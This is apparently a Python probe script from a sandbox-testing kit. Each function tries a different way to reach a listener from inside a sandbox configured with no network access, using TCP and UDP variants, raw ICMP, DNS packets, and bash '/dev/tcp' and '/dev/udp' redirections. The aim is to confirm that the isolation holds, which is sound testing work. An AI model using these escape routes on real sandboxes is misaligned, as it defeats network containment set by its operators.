"""Leave the sandbox by a network, with reach "none". Arguments: the stage's root, then host and port of a listener on the host."""

from __future__ import annotations

import ctypes
import os
import socket
import struct
import subprocess

from probe_kit import call, main, say

TIMEOUT = 3.0


def _family(host: str) -> int:
    return socket.AF_INET6 if ":" in host else socket.AF_INET


def tcp(root: str, host: str, port: str) -> None:
    with socket.create_connection((host, int(port)), TIMEOUT) as connection:
        connection.send(b"attack")


def tcp_bound(root: str, host: str, port: str) -> None:
    with socket.socket(_family(host)) as connection:
        connection.settimeout(TIMEOUT)
        connection.bind(("", 0))
        connection.connect((host, int(port)))


def tcp_nonblocking(root: str, host: str, port: str) -> None:
    with socket.socket(_family(host), socket.SOCK_STREAM | socket.SOCK_NONBLOCK) as connection:
        connection.connect_ex((host, int(port)))
        import select

        select.select([], [connection], [], TIMEOUT)


def tcp_mapped(root: str, host: str, port: str) -> None:
    """An IPv4 address written as IPv6."""
    with socket.socket(socket.AF_INET6) as connection:
        connection.settimeout(TIMEOUT)
        connection.connect((f"::ffff:{host}", int(port)))


def tcp_short_spelling(root: str, host: str, port: str) -> None:
    with socket.create_connection(("127.1", int(port)), TIMEOUT):
        pass


def tcp_any_address(root: str, host: str, port: str) -> None:
    with socket.create_connection(("0.0.0.0", int(port)), TIMEOUT):
        pass


def tcp_fast_open(root: str, host: str, port: str) -> None:
    with socket.socket(_family(host)) as connection:
        connection.settimeout(TIMEOUT)
        connection.sendto(b"attack", 0x20000000, (host, int(port)))  # MSG_FASTOPEN


def tcp_fast_open_message(root: str, host: str, port: str) -> None:
    with socket.socket(_family(host)) as connection:
        connection.settimeout(TIMEOUT)
        connection.sendmsg([b"attack"], [], 0x20000000, (host, int(port)))


def tcp_fast_open_connect(root: str, host: str, port: str) -> None:
    with socket.socket(_family(host)) as connection:
        connection.settimeout(TIMEOUT)
        connection.setsockopt(socket.IPPROTO_TCP, 30, 1)  # TCP_FASTOPEN_CONNECT
        connection.connect((host, int(port)))
        connection.send(b"attack")


def mptcp(root: str, host: str, port: str) -> None:
    with socket.socket(_family(host), socket.SOCK_STREAM, 262) as connection:
        connection.settimeout(TIMEOUT)
        connection.connect((host, int(port)))


def udp_send_to(root: str, host: str, port: str) -> None:
    socket.socket(_family(host), socket.SOCK_DGRAM).sendto(b"attack", (host, int(port)))


def udp_connected(root: str, host: str, port: str) -> None:
    datagram = socket.socket(_family(host), socket.SOCK_DGRAM)
    datagram.connect((host, int(port)))
    datagram.send(b"attack")


def udp_message(root: str, host: str, port: str) -> None:
    socket.socket(_family(host), socket.SOCK_DGRAM).sendmsg([b"attack"], [], 0, (host, int(port)))


def udp_many(root: str, host: str, port: str) -> None:
    datagram = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    address = ctypes.create_string_buffer(struct.pack("!HH4s8x", 0, int(port), socket.inet_aton(host)))
    struct.pack_into("H", address, 0, socket.AF_INET)
    text = ctypes.create_string_buffer(b"attack")
    vectors = ctypes.create_string_buffer(struct.pack("QQ", ctypes.addressof(text), 6))
    header = struct.pack("QIxxxxQQQQiIIxxxx", ctypes.addressof(address), 16, ctypes.addressof(vectors), 1, 0, 0, 0, 0, 0)
    call("sendmmsg", datagram.fileno(), ctypes.create_string_buffer(header), 1, 0)


def udp_lite(root: str, host: str, port: str) -> None:
    socket.socket(_family(host), socket.SOCK_DGRAM, 136).sendto(b"attack", (host, int(port)))


def dns_question(root: str, host: str, port: str) -> None:
    question = b"\x12\x34\x01\x00\x00\x01\x00\x00\x00\x00\x00\x00\x06attack\x07example\x00\x00\x01\x00\x01"
    socket.socket(_family(host), socket.SOCK_DGRAM).sendto(question, (host, int(port)))


def shell_tcp(root: str, host: str, port: str) -> None:
    done = subprocess.run(["bash", "-c", f"exec 3<>/dev/tcp/{host}/{port}; echo attack >&3"], check=False, stderr=subprocess.DEVNULL)
    if done.returncode:
        raise OSError(111, "the shell could not connect")


def shell_udp(root: str, host: str, port: str) -> None:
    subprocess.run(["bash", "-c", f"echo attack >/dev/udp/{host}/{port}"], check=False, stderr=subprocess.DEVNULL)


def node_tcp(root: str, host: str, port: str) -> None:
    script = f"require('net').connect({port},'{host}').on('connect',()=>process.exit(0)).on('error',()=>process.exit(1))"
    if subprocess.run(["node", "-e", script], check=False, timeout=20).returncode:
        raise OSError(111, "node could not connect")


def raw_icmp(root: str, host: str, port: str) -> None:
    with socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_ICMP) as raw:
        raw.sendto(b"\x08\x00\xf7\xff\x00\x00\x00\x00", (host, 0))


def interfaces(root: str) -> None:
    say("interfaces: " + " ".join(sorted(name for _number, name in socket.if_nameindex())))


def routes(root: str) -> None:
    say("routes: " + str(len(open("/proc/net/route").read().splitlines()) - 1))


def outside_address(root: str, address: str) -> None:
    """A datagram to an address beyond this host; connecting a UDP socket asks for a route and sends nothing."""
    datagram = socket.socket(_family(address), socket.SOCK_DGRAM)
    datagram.connect((address, 53))
    say(f"would send from {datagram.getsockname()[0]}")


def own_loopback(root: str) -> None:
    """Loopback inside works: a server and a client of our own."""
    server = socket.create_server(("127.0.0.1", 0))
    with socket.create_connection(server.getsockname(), TIMEOUT) as client:
        accepted = server.accept()[0]
        client.send(b"own")
        assert accepted.recv(3) == b"own"
    os.write(1, b"own loopback works\n")


if __name__ == "__main__":
    main(globals())
